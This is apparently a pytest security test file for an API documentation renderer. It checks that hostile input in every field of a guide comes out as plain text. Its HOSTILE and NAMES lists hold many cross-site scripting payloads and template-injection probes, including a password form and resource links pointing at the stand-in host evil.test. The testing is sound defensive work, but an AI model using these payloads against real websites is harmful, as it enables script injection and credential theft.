"""Texts that try to be more than text, in every key of the model that takes a text."""

import json
import types
import typing
from collections.abc import Callable, Iterator
from contextlib import suppress
from html import unescape
from html.parser import HTMLParser
from typing import Any

import pytest

from apiguide.docs_macros import Call, CallError, parse
from apiguide.history import views
from apiguide.model import Endpoint, Guide, Part, Resource, Settings
from apiguide.problems import Mark, Source
from apiguide.prose import Prose
from apiguide.rendering.docs_calls import DocsCalls
from apiguide.rendering.pages import Pages
from apiguide.rendering.render import Renderer
from apiguide.rendering.templates import Templates
from apiguide.site_releases import SiteReleases

GuideOf = Callable[[str], Guide]
Element = tuple[str, str | None]

HARMLESS = "Text"
HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<a href=javascript:alert(1)>x</a>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//evil.test><input name=p type=password></form>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<base href=//evil.test/>",
    "<style>@import '//evil.test/x.css'</style>",
    "<object data=//evil.test></object>",
    "<!-- --><script>alert(1)</script>",
    "</td></tr></table></p></code></pre></title></textarea><script>alert(1)</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover=alert(1) x="',
    "' onmouseover=alert(1) x='",
    "x onclick=alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<sCrIpT/x>alert(1)</sCrIpT>",
    "<<script>alert(1)//<</script>",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    '[x](ref:gone "><script>alert(1)</script>")',
    '[x](ref:books " onmouseover=alert(1) ")',
    "![x](//evil.test/x.png)",
    '![x](x.png "onerror=alert(1)")',
    "<javascript:alert(1)>",
    "{{ 7*7 }}",
    "{{7*7}}",
    "{% for x in [1] %}{{ x }}{% endfor %}",
    "{% raw %}{{ 7*7 }}{% endraw %}",
    "{{ self.__class__.__mro__ }}",
    "{# comment #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "{: onclick=alert(1) #call .ag-badge}",
    "\ue000apiguide:0\ue001",
    "%s %(x)s {0} {x.__class__}",
]
NAMES = [
    "</code><script>alert(1)</script>",
    '"onmouseover=alert(1)"',
    "'onclick='alert(1)",
    "{{7*7}}",
    "{%raw%}",
    '#a"b',
]

INNER = ("#", "./", "../", "books/", "create/")
"""How links inside the guide begin."""

# Keys that hold a name, a place in time or a word of the format, and so are held to a grammar by the checks.
NOT_TEXTS = {
    *("brief", "names"),
    *(
        "id",
        "release",
        "releases",
        "since",
        "documented_since",
        "from_",
        "until",
        "removed",
        "date",
        "status",
        "compatible_since",
    ),
    *(
        "type",
        "dialect",
        "location",
        "first",
        "group",
        "method",
        "path",
        "prefer",
        "formats",
        "incomplete",
        "when",
    ),
    *(
        "object",
        "only",
        "without",
        "extends",
        "plural",
        "replaces",
        "formerly",
        "url",
        "links_base",
        "options",
        "media_type",
    ),
    *("extension", "at"),
}


def guide_text(text: str, name: str = "name") -> str:
    """A guide with a text in every key that takes one, as YAML."""
    note = {"note": text}
    times = {"changes": [{"release": "1.1", "note": text}]}
    deprecated = {"since": "1.1", "use": text, "note": text}
    single = {
        "type": "string",
        "unit": text,
        "description": text,
        "format": text,
        "example": text,
        "default": text,
    }
    field = {
        **single,
        "pattern": json.dumps(text)
        .strip('"')
        .replace("\\", "")
        .replace("(", "[(]")
        .replace(")", "[)]")
        .translate({ord(c): "." for c in "[]{}*+?|^$()"}),
        "enum": [text, {"value": f"{text}2", "description": text, "since": "1.1"}],
        "deprecated": deprecated,
        **times,
    }
    files: dict[str, dict[str, Any]] = {
        "guide.yaml": {
            "title": text,
            "description": text,
            "servers": [{"url": "http://library.test", "description": text}],
            "releases": [{"release": "1.0"}, {"release": "1.1"}],
            "compatible_since": "1.0",
            "formats": {
                "xml": {"media_type": "application/xml", "extension": ".xml", "dialect": "rails"},
                "json": {"media_type": "application/json", "extension": ".json", "dialect": "rails"},
            },
            "authentication": [
                {
                    "id": "a",
                    "type": "basic",
                    "title": text,
                    "description": text,
                    "user": text,
                    "password": text,
                },
                {"id": "b", "type": "bearer", "title": text, "token": text},
                {"id": "c", "type": "api_key", "title": text, "name": "X-Key", "in": "query", "token": text},
            ],
            "groups": [{"id": "all", "title": text}],
            "methods": {"POST": {"description": text, "notes": [note]}},
            "statuses": {
                "201": {"title": text, "description": text},
                "404": {
                    "title": text,
                    "description": text,
                    "body": {"object": "errors"},
                    "example": {"error": text},
                },
            },
            "objects": {"errors": {"wrapped": False, "description": text, "fields": {"error": single}}},
            "exceptions": [{"at": "books/create", "release": "1.1", "reason": text}],
            "errata": [{"at": "books", "releases": ["1.0"], "date": "2024-01-31", "reason": text}],
            "synonyms": {text: [text, "other"]},
            "rules": {"names": "snake_case", "odd_names": {"error": text}, "ignore": {"todo": text}},
        },
        "books/resource.yaml": {
            "title": text,
            "group": "all",
            "description": text,
            "notes": [note, {"info": text, "since": "1.1"}],
            "parameters": {"id": single},
            "objects": {
                "book": {
                    "description": text,
                    "fields": {
                        "text": field,
                        "xml_text": {**single, "xml": {"type": text}, "const": text},
                        "list": {"type": "array", "description": text, "items": {**single, "name": "item"}},
                        "free": {"type": "object", "description": text, "example": {"key": text}},
                    },
                    **times,
                },
            },
            "deprecated": deprecated,
            **times,
        },
        "books/create.yaml": {
            "title": text,
            "method": "POST",
            "path": "/books/:id",
            "description": text,
            "permissions": [text, {"value": f"{text}2", "description": text}],
            "notes": [note, {"info": text}, {"warning": text}],
            "deprecated": deprecated,
            "parameters": {
                "query": {name: field, "map": {"fields": {"inner": field}}},
                "header": {"X-Text": field},
                "cookie": {"text": field},
                "body": {
                    "book": {"object": "book", "fields": {"text": {}, "xml_text": {}, "list": {}, "free": {}}}
                },
            },
            "responses": {
                "201": {"description": text, "body": {"object": "book"}, **times},
                "404": {},
                "409": {"description": text, "body": {"type": "array", "items": {"fields": {"text": field}}}},
            },
            "examples": [
                {
                    "title": text,
                    "description": text,
                    "parameters": {
                        "path": {"id": text},
                        "query": {name: text},
                        "header": {"X-Text": text},
                        "cookie": {"text": text},
                        "body": {"book": {"text": text, "free": {"key": text}}},
                    },
                    "responses": {"201": {"text": text}, "404": {"error": text}},
                }
            ],
            **times,
        },
    }
    return "".join(
        f"=== {file}\n" + "".join(f"{key}: {json.dumps(value)}\n" for key, value in keys.items())
        for file, keys in files.items()
    )


CALLS = [
    *(
        'authentication("POST", "/books")',
        "methods()",
        "statuses()",
        "resources()",
        "placeholders()",
    ),
    *("credentials()", "server()", "release()", "releases()", "formats()", 'curl("POST", "/books")'),
    *(
        'endpoint("books/create")',
        'parameters("books/create")',
        'responses("books/create")',
        'example("books/create")',
    ),
    *('request("books/create")', 'status_body("404")', "compatible_since()"),
]


def pages_of(guide: Guide, text: str) -> Iterator[str]:
    """All HTML that is made of a guide, and of macro calls with the text in them."""
    templates, prose = Templates(), Prose()
    site_releases = SiteReleases(guide, views(guide))
    for view in site_releases.views.values():
        renderer = Renderer(view, templates, prose)
        yield renderer.page("books/create").html
        yield renderer.page("books").html
        yield Renderer(view, templates, prose, site_releases=site_releases).page("names").html
        calls = DocsCalls(Pages(view, prose), templates, "")
        parts, problems = parse(Source("docs/index.md", "\n".join(f"{{{{ {call} }}}}" for call in CALLS)))
        assert problems == []
        yield from (str(calls.html(part)) for part in parts if isinstance(part, Call))
        given = {
            "info": (text,),
            "note": (text,),
            "warning": (text,),
            "console": (text,),
            "field": (text, text),
        }
        for name, arguments in given.items():
            with suppress(CallError):  # a text with characters that cannot be seen is refused
                yield str(calls.html(Call(name, arguments, {}, Mark(Source("")))))


class _Reader(HTMLParser):
    """The elements of some HTML with their attributes, and its text."""

    def __init__(self) -> None:
        super().__init__()
        self.elements: set[Element] = set()
        self.values: list[tuple[str, str]] = []
        self.words: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.add((tag, None))
        self.elements.update((tag, name) for name, _ in attrs)
        self.values.extend((name, value or "") for name, value in attrs)

    def handle_data(self, data: str) -> None:
        self.words.append(data)

    def handle_comment(self, data: str) -> None:
        raise AssertionError(f"a comment: {data}")

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(f"a declaration: {decl}")

    def handle_pi(self, data: str) -> None:
        raise AssertionError(f"an instruction: {data}")


def read(html: str) -> _Reader:
    reader = _Reader()
    reader.feed(html)
    reader.close()
    return reader


@pytest.fixture(scope="module")
def harmless(guide_of: GuideOf) -> set[Element]:
    """The elements and attributes of pages whose texts are harmless."""
    pages = pages_of(guide_of(guide_text(HARMLESS)), HARMLESS)
    found: set[Element] = set().union(*(read(page).elements for page in pages))
    # What Markdown makes of a text that is no attack.
    return found | {
        ("em", None),
        ("strong", None),
        ("code", None),
        ("a", "title"),
        ("a", "href"),
        ("p", None),
    }


@pytest.mark.parametrize("text", HOSTILE)
def test_a_hostile_text_is_text_in_every_key(text: str, guide_of: GuideOf, harmless: set[Element]) -> None:
    words = []
    for page in pages_of(guide_of(guide_text(text)), text):
        found = read(page)
        assert found.elements <= harmless, page
        for name, value in found.values:
            if name in ("href", "src", "action"):
                assert value.startswith(INNER), value
            if name == "id":
                assert value.replace("_", "").replace("-", "").isalnum(), value
        words += found.words
    shown = "".join(words)
    if not text.startswith(("[", "!", "<javascript", "{: ")):
        visible = unescape(text) if text.startswith("&") else text
        assert visible in shown or visible in "".join(shown.split("\n"))
    assert "49" not in shown.replace(text, "")


@pytest.mark.parametrize("name", NAMES)
def test_a_hostile_name_is_text_wherever_it_stands(
    name: str, guide_of: GuideOf, harmless: set[Element]
) -> None:
    for page in pages_of(guide_of(guide_text(HARMLESS, name)), name):
        found = read(page)
        assert found.elements <= harmless, page
        assert all(value.startswith(INNER) for attr, value in found.values if attr == "href")


def test_the_texts_of_a_page_meet_no_template(guide_of: GuideOf) -> None:
    """A text with the marks of Jinja stands on the page as it was typed."""
    text = "{{ 7*7 }} {% if %} {# x #}"
    page = next(pages_of(guide_of(guide_text(text)), text))
    assert page.count(text) > 40


def _texts(model: type[Part], seen: set[type[Part]]) -> Iterator[tuple[str, str]]:
    """Model and key of all that takes a text, in a model and those inside it."""
    if model in seen:
        return
    seen.add(model)
    for key, info in model.model_fields.items():
        kinds = list(_kinds(info.annotation))
        if str in kinds or Any in kinds:
            yield model.__name__, key
        for kind in kinds:
            if isinstance(kind, type) and issubclass(kind, Part):
                yield from _texts(kind, seen)


def _kinds(annotation: Any) -> Iterator[Any]:
    """The types that an annotation is made of."""
    arguments = typing.get_args(annotation)
    origin = typing.get_origin(annotation)
    if origin is typing.Annotated:
        yield from _kinds(arguments[0])
    elif origin is dict:
        yield from _kinds(arguments[1])
    elif arguments or origin is types.UnionType:
        for argument in arguments:
            yield from _kinds(argument)
    else:
        yield annotation


def _stated(part: Any, text: str) -> Iterator[str]:
    """The keys of a guide's parts that hold a text."""
    if isinstance(part, Part):
        for key in part.model_fields_set:
            value = getattr(part, key)
            if text in str(value) and not isinstance(value, Part):
                yield key
            yield from _stated(value, text)
    elif isinstance(part, dict):
        for value in part.values():
            yield from _stated(value, text)
    elif isinstance(part, tuple):
        for value in part:
            yield from _stated(value, text)


def test_no_key_that_takes_a_text_is_left_out(guide_of: GuideOf) -> None:
    guide = guide_of(guide_text(HARMLESS))
    stated = {
        key
        for part in (guide.settings, *guide.resources.values(), *guide.endpoints.values())
        for key in _stated(part, HARMLESS)
    }
    seen: set[type[Part]] = set()
    keys = [pair for model in (Settings, Resource, Endpoint) for pair in _texts(model, seen)]
    assert len(keys) > 60
    left_out = {f"{model}.{key}" for model, key in keys if key not in stated | NOT_TEXTS}
    assert left_out == {
        f"{model}.name" for model in ("Authentication", "Field", "FieldKeys", "Object", "ObjectKeys")
    }
